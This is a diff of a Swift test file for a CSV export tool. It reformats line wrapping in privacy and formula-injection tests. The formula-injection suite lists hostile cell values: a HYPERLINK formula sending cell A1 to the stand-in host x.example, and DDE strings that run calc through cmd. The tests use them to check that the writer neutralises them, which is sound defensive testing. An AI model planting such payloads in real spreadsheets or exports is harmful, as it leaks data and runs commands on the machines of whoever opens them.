@@ -43,7 +43,9 @@ struct PrivacyTests {
 
         let reports: [FunderReport] = [
             FunderReport(period: try #require(Period(parsing: "2016")), configuration: ProjectConfiguration()),
-            FunderReport(period: try #require(Period(parsing: "2015Q3")), configuration: ProjectConfiguration(), language: .it, csvFormat: .excelItalian),
+            FunderReport(
+                period: try #require(Period(parsing: "2015Q3")), configuration: ProjectConfiguration(), language: .it,
+                csvFormat: .excelItalian),
             FunderReport(period: try #require(Period(parsing: "2016")), configuration: ProjectConfiguration(), by: "composition"),
         ]
         var files = 0
@@ -89,9 +91,13 @@ struct PrivacyTests {
 
 @Suite("Formula injection")
 struct FormulaInjectionTests {
-    static let hostileSites = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"]
+    static let hostileSites = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR",
+    ]
 
-    @Test("a hostile site name from groups.csv reaches tables/*.csv neutralised, in both CSV dialects", arguments: [CSVFormat.rfc4180, .excelItalian])
+    @Test(
+        "a hostile site name from groups.csv reaches tables/*.csv neutralised, in both CSV dialects",
+        arguments: [CSVFormat.rfc4180, .excelItalian])
     func hostileSiteInTables(format: CSVFormat) throws {
         let f = try ImportFixture()
         var groups = "group_id,site\n"
@@ -131,7 +137,9 @@ struct FormulaInjectionTests {
     @Test("CSVWriter neutralises =, +, -, @, tab and CR at the start of text cells, and only there")
     func writer() throws {
         let writer = CSVWriter(format: .rfc4180)
-        #expect(writer.line([.text("=1+1"), .text("+1"), .text("-1"), .text("@A1"), .text("\tx"), .text("\rx")]) == "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\"\r\n")
+        #expect(
+            writer.line([.text("=1+1"), .text("+1"), .text("-1"), .text("@A1"), .text("\tx"), .text("\rx")])
+                == "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\"\r\n")
         #expect(writer.line([.text("a=b"), .integer(-3), .number(-1.5, digits: 2), .text("Forlì")]) == "a=b,-3,-1.5,Forlì\r\n")
     }
 
@@ -148,7 +156,9 @@ struct FormulaInjectionTests {
                 if c == "\"" {
                     if let next = iterator.next() {
                         if next == "\"" { cell.append("\"") } else { quoted = false; pending = next }
-                    } else { quoted = false }
+                    } else {
+                        quoted = false
+                    }
                 } else {
                     cell.append(c)
                 }
